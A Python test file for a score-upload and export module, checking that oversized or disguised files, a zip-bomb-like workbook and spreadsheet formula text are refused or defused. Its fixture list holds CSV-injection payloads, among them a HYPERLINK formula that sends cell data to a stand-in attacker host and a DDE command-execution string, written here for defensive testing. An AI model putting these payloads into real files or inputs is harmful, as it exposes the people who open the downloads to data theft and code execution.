"""Uploads that are not what they claim, and text that becomes a formula: each gets a clear Thai and
English message, nothing is published, and nothing a person typed runs when a download is opened.
(A zip renamed .xlsx, old .xls, binary junk and formulas in score cells are in
test_import_examples.py; a 200 MB body sent to Streamlit's upload endpoint in
tests/e2e/test_bad_input_ws.py.)"""

from __future__ import annotations

import csv
import io
import time
import zipfile

import openpyxl
import pandas as pd
import pytest

from dgcore import importer
from dgcore.accounts.auth import authenticate
from dgcore.accounts.store import SqliteAccountStore
from dgcore.db import current_version
from dgcore.documents import tables as exports
from dgcore.importer.read import MAX_FILE_BYTES

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def ctx(demo_settings):
    return importer.ImportContext.from_settings(demo_settings)


@pytest.mark.parametrize("name", ["scores-2567.csv", "scores-2567.xlsx", "framework-2567.yaml"])
def test_a_200_mb_file_is_refused_before_it_is_read_with_a_clear_message(tmp_path, ctx, demo_settings, name):
    big = tmp_path / name
    with open(big, "wb") as f:  # sparse: 200 MB long, no disk used
        f.truncate(200 * 1024 * 1024)
    before = current_version(demo_settings.results_dir)
    report = importer.check_files([big], 2567, ctx)
    problem = next(p for p in report.problems if p.code == "file_too_large")
    assert "200 MB" in problem.en and "100 MB" in problem.en and "ไฟล์ใหญ่เกินไป" in problem.th
    result = importer.publish_year([big], 2567, ctx, demo_settings)
    assert not result.ok and current_version(demo_settings.results_dir) == before


def test_the_limit_is_the_browsers_upload_limit():
    import tomllib
    from pathlib import Path

    config = tomllib.loads((Path(__file__).resolve().parents[2] / ".streamlit" / "config.toml").read_text())
    assert config["server"]["maxUploadSize"] * 1024 * 1024 == MAX_FILE_BYTES


def test_a_docx_renamed_xlsx_and_a_zip_bomb_like_workbook_are_reported_not_raised(tmp_path, ctx):
    fake = tmp_path / "scores.xlsx"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("word/document.xml", "<w:document/>")
        z.writestr("junk.bin", b"\0" * 20_000_000)  # compresses to a few KB
    fake.write_bytes(buf.getvalue())
    report = importer.check_files([fake], 2567, ctx)
    assert not report.ok and any(p.code == "file_unreadable" for p in report.problems)


def test_formula_text_in_an_uploaded_registry_never_becomes_a_formula_in_a_download(tmp_path):
    """Names come from contractors' files and usernames from anyone at the sign-in form; both reach
    tables people download. Every download defuses them (CSV and XLSX alike)."""
    df = pd.DataFrame({"name": FORMULAS, "score": range(len(FORMULAS))})
    rows = list(csv.reader(io.StringIO(exports.csv_bytes(df).decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:]] == [f"'{f}" for f in FORMULAS]
    wb = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(df)))
    cells = [c.value for c in wb.active["A"][1:]]
    assert all(isinstance(v, str) and v.startswith("'") for v in cells), cells
    assert all(c.data_type != "f" for row in wb.active.iter_rows() for c in row)


def test_a_username_tried_at_the_sign_in_form_is_defused_in_the_audit_logs_download(tmp_path):
    store = SqliteAccountStore(tmp_path / "accounts.sqlite")
    authenticate(store, "=cmd|' /C calc'!A0", "x", "203.0.113.5", time.time())
    log = pd.DataFrame(store.audit_rows(limit=10))
    assert log["actor"].str.startswith("=").any()
    assert "\n=" not in exports.csv_bytes(log).decode("utf-8-sig") and ",=" not in exports.csv_bytes(log).decode(
        "utf-8-sig"
    )
